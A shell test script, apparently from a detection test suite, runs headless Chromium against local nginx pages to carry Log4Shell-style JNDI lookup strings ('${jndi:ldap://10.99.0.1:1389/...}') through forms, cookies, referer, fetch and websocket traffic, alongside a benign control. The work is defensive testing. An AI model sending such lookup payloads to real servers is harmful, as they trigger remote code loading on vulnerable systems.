# SPDX-License-Identifier: GPL-2.0-or-later
# A browser as people use it: Chromium, without a window, on pages of nginx that hold the text and do the rest by script.

# browse PAGE TEXT: opens it, and waits until its script is through. The text travels behind #, which is never sent.
browse() {
    timeout 60 $OUT chromium --headless=new --no-sandbox --disable-gpu --disable-dev-shm-usage --no-first-run \
        --disable-background-networking --disable-component-update --disable-sync --disable-extensions --no-pings \
        --user-data-dir="$WORK/chromium" --virtual-time-budget=3000 --dump-dom \
        "http://10.99.0.2/$1.html#$(/usr/bin/python3 -c 'import sys, urllib.parse; print(urllib.parse.quote(sys.argv[1]))' "$2")"
    rm -rf "$WORK/chromium"
}

browser_up() {
    http_up
    cp "$here"/srv/browser/* "$WORK/nginx/html/"
    websocket_up
}

benign_browser() {
    local page
    for page in form multipart fetch cookie referer websocket; do
        browse $page 'Hello ${name:-you}, jndi:ldap://host/a'
    done
}

browser_names="browser-form browser-multipart browser-fetch browser-cookie browser-referer browser-websocket benign-browser"
# shellcheck disable=SC2086
if wanted $browser_names && have chromium nginx; then
    browser_up
    for page in form multipart fetch cookie referer websocket; do
        scene browser-$page browse $page "\${jndi:ldap://10.99.0.1:1389/$page}"
    done
    scene benign-browser benign_browser
    stop_servers
fi
